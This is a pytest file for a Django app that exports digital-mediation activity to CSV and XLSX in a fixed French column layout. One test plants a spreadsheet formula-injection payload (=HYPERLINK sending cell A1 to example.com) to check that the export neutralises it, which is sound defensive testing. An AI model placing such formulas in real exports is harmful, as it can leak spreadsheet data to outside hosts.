"""The activity export in the Coop's columns, read back as a funder's tools would."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import load_workbook

from reports import coop
from tests.reports.conftest import PERIOD, download_export

pytestmark = pytest.mark.django_db

# Frozen copy of the columns of buildAccompagnementsWorksheet.ts (see reports/coop.py).
COOP_COLUMNS = [
    "Date",
    "Enregistré le",
    "Dernière modification le",
    "Prénom du médiateur",
    "Nom du médiateur",
    "Rôle",
    "ID - Conum",
    "Type",
    "Participants",
    "Canaux d’accompagnement",
    "Nom du lieu",
    "Adresse",
    "Commune",
    "Code postal",
    "Code Insee",
    "Durée (min)",
    "Nom de l’atelier",
    "Matériel numérique utilisé",
    "Thématique(s) d’accompagnement",
    "Tags",
    "Nom de la démarche administrative",
    "Niveau d’autonomie (ou de l’atelier)",
    "Bénéficiaire réorienté",
    "Structure de redirection",
    "Commune du bénéficiaire",
    "Code postal du bénéficiaire",
    "Code Insee du bénéficiaire",
    "Genre du bénéficiaire",
    "Tranche d’âge du bénéficiaire",
    "Statut du bénéficiaire",
    "ID CRA",
]


def read_csv(content: bytes) -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf"), "French Excel needs the byte-order mark"
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def read_xlsx(content: bytes) -> tuple[list, list[dict]]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    return list(rows[0]), [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_header_is_the_coops_column_list():
    assert coop.EXPORT_COLUMNS == COOP_COLUMNS


def test_claire_downloads_the_xlsx_with_one_row_per_person_helped(claire, tour):
    header, rows = read_xlsx(download_export(claire, "xlsx", PERIOD))
    assert header == COOP_COLUMNS
    assert len(rows) == 5
    assert [row["Type"] for row in rows] == ["Atelier collectif"] * 4 + [
        "Accompagnement individuel"
    ]
    first = rows[0]
    assert first["Date"].date() == dt.date(2026, 3, 10)
    assert first["Participants"] == "1/3"
    assert first["Nom de l’atelier"] == "Déclarer ses revenus en ligne"
    assert (
        first["Thématique(s) d’accompagnement"]
        == "Aide aux démarches administratives\nArgent - Impôts"
    )
    assert first["Nom de la démarche administrative"] == "Déclaration de revenus"
    assert first["Tags"] == "Impôts (DGFiP)"  # the body in charge of the procedure
    assert first["Niveau d’autonomie (ou de l’atelier)"] == "3/3"
    assert first["Canaux d’accompagnement"] == "Autre lieu"
    assert first["Code Insee"] == "80001"
    assert first["Durée (min)"] == 90
    assert first["Genre du bénéficiaire"] == "Féminin"
    assert first["Tranche d’âge du bénéficiaire"] == "60 - 69 ans"
    assert first["Statut du bénéficiaire"] == "Retraité"
    assert first["Prénom du médiateur"] == "Inès"
    assert first["Rôle"] == "Médiateur"
    marcel = rows[1]
    assert marcel["Niveau d’autonomie (ou de l’atelier)"] == "1/3"  # the workshop's level
    assert marcel["Genre du bénéficiaire"] == "Non communiqué"
    assert marcel["Statut du bénéficiaire"] == "Non communiqué ou hétérogène"
    assert marcel["Commune du bénéficiaire"] is None


def test_the_csv_opens_in_french_excel_and_says_the_same_as_the_xlsx(claire, tour):
    rows = read_csv(download_export(claire, "csv", PERIOD))
    _header, xlsx_rows = read_xlsx(download_export(claire, "xlsx", PERIOD))
    assert list(rows[0]) == COOP_COLUMNS
    assert len(rows) == len(xlsx_rows) == 5
    individual = next(row for row in rows if row["Type"] == "Accompagnement individuel")
    assert individual["Date"] == "17/03/2026"
    assert individual["Thématique(s) d’accompagnement"] == (
        "Aide aux démarches administratives\nSocial - Santé"
    )
    assert individual["Bénéficiaire réorienté"] == "Oui"
    assert individual["Structure de redirection"] == (
        "Opérateur ou organisme en charge de la démarche administrative"
    )
    assert individual["Tranche d’âge du bénéficiaire"] == "70 ans et plus"
    assert individual["ID CRA"] == str(tour["help"].uuid)
    for csv_row, xlsx_row in zip(rows, xlsx_rows, strict=True):
        assert csv_row["ID CRA"] == xlsx_row["ID CRA"]
        assert csv_row["Code Insee du bénéficiaire"] == (
            xlsx_row["Code Insee du bénéficiaire"] or ""
        )


def test_a_procedure_name_typed_as_a_formula_stays_text_in_the_csv(claire, tour):
    # Ines types the procedure's name on her tablet; Claire opens the CSV in Excel, where
    # a cell beginning with "=" (or +, -, @) would be run as a formula.
    help_ = tour["help"]
    help_.procedure_name = '=HYPERLINK("http://example.com/?"&A1;"Voir")'
    help_.save()

    rows = read_csv(download_export(claire, "csv", PERIOD))

    (row,) = [row for row in rows if row["ID CRA"] == str(help_.uuid)]
    assert row["Nom de la démarche administrative"] == "'" + help_.procedure_name
    for other in rows:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in other.values())


def test_the_epci_filter_keeps_only_its_stops(claire, tour):
    rows = read_csv(download_export(claire, "csv", PERIOD | {"epci": "cc-est"}))
    assert {row["Commune"] for row in rows} == {"Ailly"}
    assert len(rows) == 3


def test_a_wrong_period_is_explained_next_to_the_field(claire, tour):
    response = claire.post(
        "/admin/rapports/exports/", {"start": "2026-12-31", "end": "2026-01-01", "format": "csv"}
    )

    assert response.status_code == 400
    assert 'aria-invalid="true"' in response.content.decode()


def test_the_command_writes_both_formats_for_a_monthly_cron(tour, tmp_path):
    call_command(
        "export_activity",
        "--from",
        "2026-03-01",
        "--to",
        "2026-03-31",
        "--format",
        "csv",
        "--output",
        str(tmp_path / "mars.csv"),
    )
    call_command(
        "export_activity",
        "--from",
        "2026-03-01",
        "--to",
        "2026-03-31",
        "--epci",
        "cc-est",
        "--format",
        "xlsx",
        "--output",
        str(tmp_path / "mars.xlsx"),
    )

    assert len(read_csv((tmp_path / "mars.csv").read_bytes())) == 5
    header, rows = read_xlsx((tmp_path / "mars.xlsx").read_bytes())
    assert header == COOP_COLUMNS and len(rows) == 3


def test_the_command_refuses_an_unknown_epci(tour, tmp_path):
    with pytest.raises(CommandError):
        call_command(
            "export_activity",
            "--from",
            "2026-03-01",
            "--to",
            "2026-03-31",
            "--epci",
            "nowhere",
            "--output",
            str(tmp_path / "x.xlsx"),
        )
